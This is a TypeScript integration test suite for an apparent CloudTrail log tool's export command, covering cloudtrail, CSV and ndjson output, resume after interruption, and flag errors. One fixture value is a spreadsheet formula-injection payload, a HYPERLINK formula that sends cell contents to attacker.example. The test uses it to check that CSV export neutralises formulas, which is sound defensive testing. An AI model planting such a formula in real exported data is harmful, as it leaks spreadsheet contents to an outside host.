import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { generateTrail, gzipLogFile, logFileKey, uploadFiles, type GeneratedFile } from '@trailscope/fixtures';
import { UNRESTRICTED, parseSearchRequest, search } from '@trailscope/query';
import type { OpenSearchClient } from '@trailscope/runtime';
import type { Config } from '@trailscope/runtime';
import { directoryTarget, exportEvents, fileTarget, type OutputTarget } from '@trailscope/evidence';
import { runCli } from '../support/env';
import { createScope, type TestScope } from '../ingest/support/services';

const ACCOUNT_A = '111111111111';
const FORMULA_USER = '=HYPERLINK("http://attacker.example/?"&A1,"x")';

/** Every event of a namespace matching `filters`, by id, with its stored record. */
async function eventsOf(client: OpenSearchClient, config: Config, filters: Record<string, unknown> = {}): Promise<Map<string, { raw: string; eventName: string }>> {
  await client.indices.refresh({ index: config.names.eventIndexPattern, ignore_unavailable: true, allow_no_indices: true });
  const out = new Map<string, { raw: string; eventName: string }>();
  let cursor: string | undefined;
  do {
    const page = await search(client, config.names, parseSearchRequest({ ...filters, pageSize: 1000, includeRaw: true, sort: 'asc', cursor }), UNRESTRICTED);
    for (const e of page.events) out.set(e.id, { raw: e.raw as string, eventName: e.eventName });
    cursor = page.cursor;
  } while (cursor);
  return out;
}

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    if (statSync(p).isDirectory()) out.push(...filesUnder(p));
    else out.push(p);
  }
  return out;
}

const env = (scope: TestScope) => ({ TRAILSCOPE_NAMESPACE: scope.ns, TRAILSCOPE_JOB_LOCK_MS: '4000' });

describe('trailscope export', () => {
  let source: TestScope;
  let copy: TestScope;
  let dir: string;
  let files: GeneratedFile[];

  beforeAll(async () => {
    source = await createScope('t-export');
    copy = await createScope('t-export-copy');
    dir = mkdtempSync(path.join(tmpdir(), 'ts-export-'));
    files = generateTrail({ seed: 33, accounts: [ACCOUNT_A, '222222222222'], regions: ['us-east-1', 'eu-west-1'], days: ['2026-03-01', '2026-03-02'], filesPerPartition: 2, eventsPerFile: 20 });
    // a record whose user name a spreadsheet would run as a formula
    const first = files[0]!;
    const record = { ...first.records[0]!, eventID: '0f0f0f0f-0000-4000-8000-000000000001', userIdentity: { type: 'IAMUser', userName: FORMULA_USER, accountId: ACCOUNT_A, arn: `arn:aws:iam::${ACCOUNT_A}:user/x` } };
    const raw = JSON.stringify(record);
    files.push({ ...first, key: logFileKey({ account: ACCOUNT_A, region: 'us-east-1', fileTimeMs: Date.parse('2026-03-01T10:00:00Z'), suffix: 'FormulaFile00001' }), body: gzipLogFile([raw]), records: [record], rawRecords: [raw] });
    await uploadFiles(source.s3, source.bucket, files);
    const run = await runCli(['backfill', '--bucket', source.bucket, '--wait', '--json'], { env: env(source) });
    expect(run.code).toBe(0);
  });

  afterAll(async () => {
    await source?.close();
    await copy?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('--format cloudtrail of a filtered query, backfilled into a fresh namespace, gives the same events with identical raw bytes', async () => {
    const out = path.join(dir, 'ct');
    const run = await runCli(['export', '--account', ACCOUNT_A, '--format', 'cloudtrail', '--out', out, '--json'], { env: env(source) });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const expected = await eventsOf(source.opensearch, source.config, { accounts: [ACCOUNT_A] });
    expect(expected.size).toBeGreaterThan(50);

    const manifest = JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8')) as { events: number; files: Array<{ path: string; sha256: string; bytes: number; events: number }>; query: { accounts: string[] } };
    expect(manifest.events).toBe(expected.size);
    expect(manifest.query.accounts).toEqual([ACCOUNT_A]);
    const written = filesUnder(path.join(out, 'AWSLogs')).map((f) => path.relative(out, f).split(path.sep).join('/')).sort();
    expect(manifest.files.map((f) => f.path).sort()).toEqual(written);
    for (const f of manifest.files) {
      const bytes = readFileSync(path.join(out, f.path));
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(f.sha256);
      expect(bytes.length).toBe(f.bytes);
      expect(f.path).toMatch(new RegExp(`^AWSLogs/${ACCOUNT_A}/CloudTrail/(us-east-1|eu-west-1)/2026/0[23]/\\d{2}/${ACCOUNT_A}_CloudTrail_(us-east-1|eu-west-1)_\\d{8}T\\d{4}Z_[0-9a-f]{16}\\.json\\.gz$`));
    }
    expect(manifest.files.reduce((n, f) => n + f.events, 0)).toBe(expected.size);

    await uploadFiles(copy.s3, copy.bucket, written.map((rel) => ({ key: rel, body: readFileSync(path.join(out, rel)) })));
    const again = await runCli(['backfill', '--bucket', copy.bucket, '--wait', '--json'], { env: env(copy) });
    expect(again.code).toBe(0);
    const copied = await eventsOf(copy.opensearch, copy.config);
    expect(copied).toEqual(expected);
  });

  it('--format csv parses with a CSV parser into the Event history columns, one row per event, a formula neutralised', async () => {
    const file = path.join(dir, 'events.csv');
    const run = await runCli(['export', '--account', ACCOUNT_A, '--region', 'us-east-1', '--format', 'csv', '--out', file], { env: env(source) });
    expect(run.code).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(text.split('\r\n')[0]).toBe('Event time,User name,Event name,Resource type,Resource name,Event source,AWS access key,Source IP address,Error code,Request ID,Event ID,Read-only,AWS account,AWS region');
    const rows = parseCsv(text, { columns: true }) as Array<Record<string, string>>;
    const expected = await eventsOf(source.opensearch, source.config, { accounts: [ACCOUNT_A], regions: ['us-east-1'] });
    expect(rows).toHaveLength(expected.size);
    const byId = new Map(rows.map((r) => [r['Event ID'] as string, r]));
    for (const [id, e] of expected) {
      const record = JSON.parse(e.raw) as Record<string, unknown>;
      const row = byId.get(id);
      expect(row?.['Event name']).toBe(record.eventName);
      expect(row?.['Event time']).toBe(record.eventTime);
      expect(row?.['AWS account']).toBe(ACCOUNT_A);
      expect(row?.['Read-only']).toBe(record.readOnly === undefined ? '' : String(record.readOnly));
    }
    expect(byId.get('0f0f0f0f-0000-4000-8000-000000000001')?.['User name']).toBe(`'${FORMULA_USER}`);
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
    const manifest = JSON.parse(readFileSync(`${file}.manifest.json`, 'utf8')) as { files: Array<{ sha256: string }> };
    expect(manifest.files[0]?.sha256).toBe(createHash('sha256').update(readFileSync(file)).digest('hex'));
  });

  it('--format ndjson to standard output prints every record byte for byte as delivered', async () => {
    const run = await runCli(['export', '--account', '222222222222', '--format', 'ndjson'], { env: env(source) });
    expect(run.code).toBe(0);
    const delivered = new Set(files.filter((f) => f.account === '222222222222').flatMap((f) => f.rawRecords));
    const lines = run.stdout.split('\n');
    expect(lines.pop()).toBe('');
    expect(new Set(lines)).toEqual(delivered);
    expect(lines).toHaveLength(delivered.size);
  });

  /** A target that fails once `budget` writes went through: an export interrupted mid-way. */
  function interrupted(target: OutputTarget, budget: number): OutputTarget {
    let left = budget;
    return {
      ...target,
      async open(rel, resume) {
        const out = await target.open(rel, resume);
        return {
          ...out,
          get bytes() {
            return out.bytes;
          },
          async write(chunk) {
            if (--left < 0) throw new Error('interrupted');
            await out.write(chunk);
          },
        };
      },
    };
  }

  it.each(['ndjson', 'cloudtrail'] as const)('--resume after an interruption finishes a %s export with every event exactly once', async (format) => {
    const out = path.join(dir, `resume-${format}`);
    const target = format === 'ndjson' ? fileTarget(path.join(out, 'events.ndjson')) : directoryTarget(out);
    // pages of 16 events: the export reads many pages (each while the one before is written) on either side of the interruption
    const options = { format, filters: { accounts: [ACCOUNT_A] }, scope: UNRESTRICTED, checkpointEvents: 7, maxEventsPerFile: 5, pageSize: 16 } as const;
    // ndjson is written a checkpoint (or a page) at a time, cloudtrail a gzip chunk of a log file at a time
    await expect(exportEvents(source.opensearch, source.config.names, { ...options, target: interrupted(target, format === 'ndjson' ? 10 : 30) })).rejects.toThrow('interrupted');
    const manifest = await exportEvents(source.opensearch, source.config.names, { ...options, target, resume: true });
    const expected = await eventsOf(source.opensearch, source.config, { accounts: [ACCOUNT_A] });
    expect(manifest.events).toBe(expected.size);
    const raws: string[] = [];
    if (format === 'ndjson') {
      raws.push(...readFileSync(path.join(out, 'events.ndjson'), 'utf8').split('\n').filter((l) => l !== ''));
    } else {
      const { gunzipSync } = await import('node:zlib');
      for (const f of filesUnder(path.join(out, 'AWSLogs'))) {
        const text = gunzipSync(readFileSync(f)).toString('utf8');
        const records = (JSON.parse(text) as { Records: unknown[] }).Records;
        expect(manifest.files.some((m) => path.join(out, m.path) === f)).toBe(true);
        raws.push(...records.map((r) => JSON.stringify(r)));
      }
      expect(manifest.files.reduce((n, f) => n + f.events, 0)).toBe(expected.size);
    }
    expect(raws).toHaveLength(expected.size);
    const want = [...expected.values()].map((e) => (format === 'ndjson' ? e.raw : JSON.stringify(JSON.parse(e.raw))));
    expect(raws.sort()).toEqual(want.sort());
    for (const f of manifest.files) expect(createHash('sha256').update(readFileSync(path.join(out, f.path))).digest('hex')).toBe(f.sha256);
  });

  it('refuses cloudtrail without --out, --resume to standard output, and an unknown format, naming the flag', async () => {
    const ct = await runCli(['export', '--format', 'cloudtrail'], { env: env(source) });
    expect(ct.code).toBe(2);
    expect(ct.stderr).toContain('--out DIR');
    const resume = await runCli(['export', '--format', 'ndjson', '--resume'], { env: env(source) });
    expect(resume.code).toBe(2);
    expect(resume.stderr).toContain('--resume needs --out');
    const fmt = await runCli(['export', '--format', 'xml'], { env: env(source) });
    expect(fmt.code).toBe(2);
    expect(fmt.stderr).toContain("option '--format <format>' argument 'xml' is invalid");
  });
});
